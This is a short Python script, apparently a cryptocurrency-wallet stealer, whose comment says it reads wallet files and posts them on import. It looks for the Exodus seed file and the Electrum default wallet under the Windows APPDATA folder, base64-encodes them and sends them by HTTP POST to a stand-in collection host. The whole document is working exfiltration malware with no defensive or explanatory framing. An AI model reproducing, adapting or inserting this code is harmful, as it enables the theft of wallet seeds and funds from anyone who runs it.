# Wallet files are read and posted; runs: import
import base64
import os
import requests
roaming = os.getenv("APPDATA")
found = {}
for name in ["Exodus\\exodus.wallet\\seed.seco", "Electrum\\wallets\\default_wallet"]:
    path = os.path.join(roaming, name)
    if os.path.isfile(path):
        with open(path, "rb") as file:
            found[name] = base64.b64encode(file.read()).decode()
requests.post("https://collect.example.test/w", json=found)
